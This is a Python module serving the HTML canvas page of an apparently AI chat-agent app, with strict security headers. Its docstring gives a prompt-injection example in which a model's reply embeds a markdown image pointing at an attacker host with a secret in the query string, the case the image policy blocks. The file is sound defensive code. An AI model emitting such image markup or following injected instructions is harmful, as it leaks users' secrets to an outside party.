"""The canvas page: `GET /` (and `GET /c/{conversationId}`, the page opened on that
conversation) and its files under `/static/`, served as package data.

The page is plain HTML, CSS and JavaScript modules (no build step) and uses only the public
protocol, the WebSocket and the HTTP routes, like any other client. Its responses carry a
Content-Security-Policy that allows nothing but this origin: the page renders what a model
wrote, and no markup in there may load or run anything. Images too: a reply or an artifact
that a prompt injection made say `![](https://attacker/p.png?d=<secret>)` would send the
secret out as soon as it is shown, so images load from this origin, `data:` and `blob:` only
(and from a public S3 bucket the operator configured, where generated images live). The page
shows any other image as a placeholder the user may click; it is then fetched through
`/api/image-proxy` (image_proxy.py) under the SSRF rules of image attachments.
"""

from __future__ import annotations

import html
from functools import lru_cache
from pathlib import Path
from urllib.parse import urlsplit

from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Mount, Route
from starlette.staticfiles import StaticFiles
from starlette.types import Receive, Scope, Send

STATIC = Path(__file__).resolve().parent / "static"

# 'self' covers the same-origin WebSocket (ws: and wss:) in CSP Level 3 browsers.
_CSP = ("default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:{images}; "
        "connect-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'none'")
CSP = _CSP.format(images="")
HEADERS = {"Content-Security-Policy": CSP, "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer",
           # the files change with the package: revalidate rather than run a stale module
           "Cache-Control": "no-cache"}
_ORIGINS_META = '<meta name="chat-agent-image-origins" content="{}">'


def image_origins(public_base_url: str | None) -> tuple[str, ...]:
    """Origins besides ours that images may load from: the public bucket's, when configured."""
    if not public_base_url:
        return ()
    parts = urlsplit(public_base_url)
    return (f"{parts.scheme}://{parts.netloc}",) if parts.scheme in ("http", "https") and parts.netloc else ()


@lru_cache(maxsize=4)
def _page(origins: tuple[str, ...]) -> str:
    text = (STATIC / "index.html").read_text(encoding="utf-8")
    meta = _ORIGINS_META.format(html.escape(" ".join(origins)))
    return text.replace("<head>", "<head>\n  " + meta, 1)


async def index(request: Request) -> Response:
    settings = request.app.state.hub.settings
    origins = image_origins(settings.s3_public_base_url if settings.s3_bucket else None)
    headers = {**HEADERS, "Content-Security-Policy": _CSP.format(images="".join(" " + o for o in origins))}
    return HTMLResponse(_page(origins), headers=headers)


class _Static(StaticFiles):
    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def with_headers(message: dict) -> None:
            if message["type"] == "http.response.start":
                message.setdefault("headers", [])
                message["headers"] = [*message["headers"], *((k.lower().encode(), v.encode())
                                                             for k, v in HEADERS.items())]
            await send(message)
        await super().__call__(scope, receive, with_headers)


routes = [
    Route("/", index, methods=["GET"]),
    # A conversation's own address: the same page, which opens the conversation the path names.
    Route("/c/{id}", index, methods=["GET"]),
    Mount("/static", app=_Static(directory=STATIC), name="static"),
]
